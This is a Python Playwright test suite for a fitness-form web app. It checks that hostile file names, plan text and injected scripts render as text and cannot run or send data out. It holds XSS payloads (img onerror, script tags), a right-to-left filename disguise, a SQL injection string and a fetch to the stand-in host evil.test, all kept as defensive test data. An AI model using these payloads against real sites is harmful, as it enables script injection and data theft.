"""Text that others wrote stays text, and a page that was tampered with can run nothing."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
import tomli_w
from chromium import complaints_of
from fake_camera import FILMS
from playwright.sync_api import Browser, Page, expect
from running import Server, running

from formcheck.core.events import FaultRaised, RepCounted
from formcheck.plans import plans_folder
from formcheck.store import Store, history_path
from formcheck.stored import Record
from tests.histories import coached, record
from tests.simulate import squats

pytestmark = pytest.mark.slow

TURNED = "\u202eleg day 2"  # and never back again
NAMES = [
    "<img src=x onerror=\"document.title='hacked'\">.mp4",
    "<script>document.title='hacked'</script>",
    "\u202egnp.exe\u202c",  # written from right to left
    TURNED,
    "🏋️‍♀️ my film 👩🏽.mp4",
    "x" * 10_000,
    "'; DROP TABLE sessions; --",
]


FILM = FILMS / "stand_front.mp4"


def foreign(number: int, name: str) -> Record:
    """A session as an imported file may bring it: every word of it from outside, and with its movement."""
    moved = record("2026-01-05T18:30:00+00:00", "squat", *MOVEMENT, number)
    return replace(moved, plan=name, source={"kind": "file", "name": name})


MOVEMENT = coached("squat", squats(2).poses())


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A computer on which everything that comes from outside is hostile: history, plans, and the film."""
    folder = tmp_path_factory.mktemp("data")
    with Store(history_path(folder)) as store:
        for name in NAMES:
            session = store.begin("squat", {"kind": "file", "name": name}, name)
            rep = RepCounted(3.0, 1, "both", 1.0, 2.0, 3.0, (name,), (name,), {name[:40]: 1.0})
            store.append(session, [FaultRaised(2.0, name, "left"), rep], [(1.0, 10.0), (2.0, 90.0)])
            store.finish(session, 5.0)
        store.finish(store.begin(NAMES[0], {"kind": "file", "name": "exercise"}), 5.0)
        store.take_over([foreign(number, name) for number, name in enumerate(NAMES)])
    plans = plans_folder(folder)
    plans.mkdir(parents=True)
    for number, name in enumerate(NAMES):
        words = {"name": name[:80], "note": name[:500], "warm_up": name[:500], "warm_up_s": 60}
        steps = [{"exercise": "squat", "reps": 5}]
        (plans / f"own-{number}.toml").write_text(tomli_w.dumps({**words, "steps": steps}), encoding="utf-8")
    (plans / "<img src=x onerror=alert(1)>.toml").write_text(f"{NAMES[0]} = {NAMES[1]}", encoding="utf-8")
    film = folder / NAMES[0].replace("/", "")
    film.write_bytes(FILM.read_bytes())
    with running(folder, source=str(film), model="lite") as started:
        yield started


@pytest.fixture
def page(browser: Browser, server: Server) -> Iterator[Page]:
    opened = browser.new_page(viewport={"width": 1280, "height": 800})
    opened.goto(server.address)
    yield opened
    opened.close()


@pytest.fixture
def unharmed(page: Page) -> Iterator[None]:
    """Whatever the test shows: no name has become markup, run, or broken the page."""
    complaints = complaints_of(page)
    yield
    assert page.locator("img, [onerror]").count() == 0
    assert page.locator("script:not([src])").count() == 0
    assert "hacked" not in page.title()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "a long name breaks the page"
    assert complaints == []


SESSIONS = 2 * len(NAMES) + 1


@pytest.mark.usefixtures("unharmed")
def test_the_history_shows_names_as_text(page: Page, server: Server) -> None:
    page.goto(f"{server.url}/#/history")
    expect(page.locator("table.sessions tbody tr")).to_have_count(SESSIONS)
    expect(page.locator("table.sessions")).to_contain_text(NAMES[1])
    expect(page.locator("button", has_text=NAMES[0]).first).to_be_visible()  # a day of the calendar
    assert NAMES[0] in str(page.locator("[data-day] button").first.get_attribute("title"))
    page.locator("[data-day] button").first.click()
    page.locator("table.sessions").get_by_role("button", name="Delete").first.click()
    expect(page.get_by_role("dialog")).to_be_visible()


@pytest.mark.usefixtures("unharmed")
@pytest.mark.parametrize("number", range(1, SESSIONS + 1))
def test_a_session_and_its_replay_show_names_as_text(page: Page, server: Server, number: int) -> None:
    page.goto(f"{server.url}/#/session/{number}")
    expect(page.locator(".summary h1")).to_be_visible()
    expect(page.locator(".summary [aria-busy]")).to_have_count(0)
    if number > SESSIONS - len(NAMES):
        expect(page.locator(".replay-stage").first).to_be_visible()
        expect(page.locator(".opening")).to_contain_text(NAMES[number - SESSIONS - 1][:100])


@pytest.mark.usefixtures("unharmed")
@pytest.mark.parametrize("number", range(1, len(NAMES) + 1))
def test_a_comparison_shows_names_as_text(page: Page, server: Server, number: int) -> None:
    page.goto(f"{server.url}/#/compare/{number}/{number + len(NAMES) + 1}")
    key = NAMES[number - 1].rpartition(".")[2].replace("_", " ")  # the fault of a rule that nobody knows
    expect(page.locator("table.compared")).to_contain_text(f"{key[-100:]} (1)")
    page.goto(f"{server.url}/#/compare/{number}/{len(NAMES) + 1}")
    expect(page.locator("table.compared").first).to_be_visible()


@pytest.mark.usefixtures("unharmed")
def test_plans_and_what_is_wrong_with_them_are_text(page: Page) -> None:
    for name in NAMES:
        card = page.locator(".card", has=page.get_by_text(name[:80], exact=True))
        card.locator("input").check(force=True)
        expect(page.locator(".details h2")).to_contain_text(name[:80])
        expect(page.locator(".details small")).to_have_text(name[:500])
    expect(page.locator(".plan-fault")).to_contain_text("<img src=x onerror=alert(1)>.toml")


@pytest.mark.usefixtures("unharmed")
def test_the_floor_shows_a_plans_words_and_a_films_name_as_text(page: Page) -> None:
    expect(page.locator(".camera-note")).to_contain_text("<img src=x onerror=")
    page.locator(".card", has=page.get_by_text(NAMES[0], exact=True)).locator("input").check(force=True)
    page.locator(".stage-buttons button").first.click()
    expect(page.locator(".floor .phase")).to_contain_text(NAMES[0], timeout=60_000)
    page.get_by_role("button", name="Finish").click()
    expect(page.locator(".summary .opening")).to_contain_text(NAMES[0], timeout=30_000)


@pytest.mark.usefixtures("unharmed")
@pytest.mark.parametrize(
    "name", [NAMES[0], TURNED + ".mp4", "x" * 10_000 + ".mp4"], ids=["markup", "rtl", "10 kB"]
)
def test_an_analysed_films_name_is_text(page: Page, server: Server, name: str) -> None:
    page.goto(f"{server.url}/#/analyse")
    page.get_by_label("Exercise").select_option("squat")
    page.set_input_files("#film", {"name": name, "mimeType": "video/mp4", "buffer": FILM.read_bytes()})
    expect(page.locator(".job")).to_contain_text(name[:20])
    expect(page.locator(".summary .opening")).to_be_visible(timeout=60_000)
    page.goto(f"{server.url}/#/analyse")
    expect(page.locator(".job")).to_contain_text(name[:20])


@pytest.mark.parametrize("number", range(1, SESSIONS + 1))
def test_a_report_shows_names_as_text(page: Page, server: Server, number: int) -> None:
    report = server.ask("GET", f"/api/sessions/{number}/export?format=html").text
    page.goto("about:blank")
    page.set_content(report)
    expect(page.locator("h1, h2").first).to_be_visible()
    assert page.locator("img, script, [onerror]").count() == 0
    assert "hacked" not in page.title().replace(NAMES[0], "").replace(NAMES[1], "")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), "a long name breaks it"


# How far to the right of its first letter the last one of a text is (px).
RUN = """(text) => {
  const walker = document.createTreeWalker(document.querySelector("main"), NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const at = walker.currentNode.data.indexOf(text);
    if (at < 0) continue;
    const [first, last] = [new Range(), new Range()].map((one, i) => {
      const place = i ? at + text.length - 1 : at;
      one.setStart(walker.currentNode, place);
      one.setEnd(walker.currentNode, place + 1);
      return one.getBoundingClientRect().left;
    });
    return last - first;
  }
}"""


def test_a_name_from_right_to_left_turns_nothing_else_around(page: Page, server: Server) -> None:
    number = SESSIONS - len(NAMES) + 1 + NAMES.index(TURNED)
    page.goto(f"{server.url}/#/session/{number}")
    expect(page.locator(".opening")).to_contain_text("January 5")
    assert page.evaluate(RUN, "January 5") > 0
    page.goto(f"{server.url}/#/")
    page.locator(".card", has=page.get_by_text(TURNED, exact=True)).locator("input").check(force=True)
    expect(page.locator(".stage-buttons")).to_contain_text(TURNED)
    assert page.evaluate(RUN, "Space") > 0
    page.goto("about:blank")
    page.set_content(server.ask("GET", f"/api/sessions/{number}/export?format=html").text)
    assert page.evaluate(RUN, "2026-01-05") > 0


ATTACKS = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'window.hacked = 1';"
    " document.body.append(s)",
    "event handler": "document.body.setAttribute('onclick', 'window.hacked = 1'); document.body.click()",
    "markup": "document.body.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'",
    "eval": "setTimeout('window.hacked = 1', 0)",
    "script of another site": "const s = document.createElement('script'); s.src = 'http://evil.test/x.js';"
    " document.body.append(s)",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_slipped_into_the_page_does_not_run(page: Page, attack: str) -> None:
    refused = complaints_of(page)
    page.evaluate(
        "(code) => { try { (0, eval)(code) } catch (error) { console.error(String(error)) } }",
        ATTACKS[attack],
    )
    page.wait_for_timeout(200)
    assert page.evaluate("window.hacked") is None
    assert refused


def test_what_the_page_knows_cannot_be_sent_elsewhere(page: Page) -> None:
    sent = page.evaluate(
        "fetch('http://evil.test/', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')"
    )
    assert sent == "refused"


def test_a_page_of_the_last_run_is_told_where_the_new_one_is(browser: Browser, tmp_path: Path) -> None:
    page = browser.new_page()
    with running(tmp_path) as first:
        port = first.port
        page.goto(first.address)
        expect(page.locator("#view, main").first).to_be_visible()
    with running(tmp_path, port=port):
        expect(page.get_by_text("open the address that it printed")).to_be_visible(timeout=10_000)
    page.close()
